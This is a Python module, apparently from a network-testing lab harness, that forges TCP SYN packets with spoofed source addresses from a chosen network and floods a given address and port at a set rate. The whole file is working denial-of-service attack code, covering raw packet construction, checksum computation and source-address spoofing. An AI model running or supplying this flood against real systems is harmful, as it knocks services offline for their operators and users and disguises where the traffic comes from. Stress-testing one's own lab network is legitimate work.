"""Sends TCP SYNs from forged addresses of a network at a fixed rate until SIGTERM.

    lab.sh probe syn-flood ADDRESS PORT PER_SECOND NETWORK

NETWORK is the first three numbers of an IPv4 network. Prints "sent N" at the end.
"""

import socket
import struct

from lab import UsageError
from lab.probes import flood


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, from_port: int, port: int, sequence: int) -> bytes:
    """A packet; the kernel fills in length and checksum of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    option = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", from_port, port, sequence, 0, 0x60, 2, 65535, 0, 0) + option
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def main(words: list[str]) -> None:
    match words:
        case [address, port, rate, network]:
            target = socket.inet_aton(address)

            def forged(number: int) -> bytes:
                source = socket.inet_aton(f"{network}.{2 + number % 250}")
                return syn(source, target, 1024 + number % 60000, int(port), number & 0xFFFFFFFF)

            flood(address, int(rate), forged)
        case _:
            raise UsageError
